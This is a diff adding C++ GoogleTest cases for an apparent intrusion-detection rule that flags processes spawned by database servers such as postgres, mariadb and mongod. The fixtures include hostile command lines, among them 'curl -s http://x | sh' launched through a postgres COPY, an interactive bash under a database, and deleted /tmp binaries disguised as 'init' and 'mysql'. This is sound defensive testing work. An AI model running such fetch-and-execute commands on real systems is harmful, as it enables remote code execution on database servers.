@@ -1,0 +1,79 @@
+#include <gtest/gtest.h>
+
+#include "hunt/snapshot_builder.h"
+
+namespace hostward::testing {
+namespace {
+
+const char* kRule = "process.database-spawned-child";
+const char* kPg = "/usr/lib/postgresql/15/bin/postgres";
+
+TEST(DatabaseChild, CopyToProgramShell) {
+  const auto f = of_rule(run(snapshot({
+                             proc(100, 1, "postgres", kPg),
+                             proc(101, 100, "postgres", kPg, {"postgres: postgres postgres 127.0.0.1(5000) COPY"}),
+                             proc(102, 101, "sh", "/usr/bin/dash", {"sh", "-c", "curl -s http://x | sh"}),
+                             proc(103, 102, "curl", "/usr/bin/curl", {"curl", "-s", "http://x"}),
+                         })),
+                         kRule);
+  ASSERT_EQ(f.size(), 2u);
+  EXPECT_EQ(pid_of(f[0]), 102);
+  EXPECT_EQ(pid_of(f[1]), 103);
+  EXPECT_EQ(f[0].severity, Severity::high);
+  EXPECT_EQ(f[0].evidence["database"]["pid"], 101);
+  EXPECT_EQ(f[0].evidence["database"]["comm"], "postgres");
+  EXPECT_EQ(f[0].evidence["command"], "curl");
+  EXPECT_NE(f[0].title.find("database server postgres (pid 101)"), std::string::npos);
+}
+
+TEST(DatabaseChild, SeedWatchdogTree) {
+  const auto f = of_rule(run(snapshot({
+                             proc(773014, 1, "postgres", "/usr/lib/postgresql/16/bin/postgres"),
+                             deleted(proc(774094, 773014, "init", "/tmp/init")),
+                             deleted(proc(779680, 774094, "mysql", "/tmp/mysql")),
+                             proc(777352, 773014, "postgres", "/usr/lib/postgresql/16/bin/postgres",
+                                  {"postgres: checkpointer"}),
+                         })),
+                         kRule);
+  ASSERT_EQ(f.size(), 2u);
+  EXPECT_EQ(pid_of(f[0]), 774094);
+  EXPECT_EQ(pid_of(f[1]), 779680);
+  EXPECT_EQ(f[1].evidence["lineage"].size(), 2u);
+}
+
+TEST(DatabaseChild, OwnProgramsAndAllowedArchiveCommandsAreSilent) {
+  const auto f = run(snapshot({
+      proc(200, 1, "postgres", kPg),
+      proc(201, 200, "postgres", kPg, {"postgres: 15/main: walwriter"}),
+      proc(202, 200, "postgres", kPg, {"postgres: 15/main: archiver"}),
+      proc(203, 202, "sh", "/usr/bin/dash", {"sh", "-c", "wal-g wal-push pg_wal/0001"}),
+      proc(204, 203, "wal-g", "/usr/local/bin/wal-g", {"wal-g", "wal-push", "pg_wal/0001"}),
+      proc(205, 200, "pg_ctl", "/usr/lib/postgresql/15/bin/pg_ctl"),
+      proc(300, 1, "redis-server", "/usr/bin/redis-check-rdb", {"/usr/bin/redis-server *:6379"}),
+      proc(301, 300, "redis-rdb-bgsave", "/usr/bin/redis-check-rdb", {"redis-rdb-bgsave *:6379"}),
+      proc(400, 1, "bash", "/usr/bin/bash"),
+      proc(401, 400, "sh", "/usr/bin/dash", {"sh", "-c", "curl x | sh"}),
+  }));
+  EXPECT_TRUE(of_rule(f, kRule).empty()) << of_rule(f, kRule).front().title;
+}
+
+TEST(DatabaseChild, AllowListIsConfigurable) {
+  HuntConfig c;
+  c.database_child_allow = {"cp"};
+  const auto s = snapshot({proc(200, 1, "postgres", kPg),
+                           proc(203, 200, "sh", "/usr/bin/dash", {"sh", "-c", "cp pg_wal/1 /archive/1"})});
+  EXPECT_TRUE(of_rule(run(s, c), kRule).empty());
+  EXPECT_EQ(of_rule(run(s), kRule).size(), 1u);
+}
+
+TEST(DatabaseChild, MysqldAndMongodToo) {
+  const auto f = of_rule(run(snapshot({proc(500, 1, "mysqld", "/usr/sbin/mariadbd"),
+                                       proc(501, 500, "bash", "/usr/bin/bash", {"bash", "-i"}),
+                                       proc(600, 1, "mongod", "/usr/bin/mongod"),
+                                       proc(601, 600, "python3", "/usr/bin/python3.11")})),
+                         kRule);
+  ASSERT_EQ(f.size(), 2u);
+}
+
+}  // namespace
+}  // namespace hostward::testing
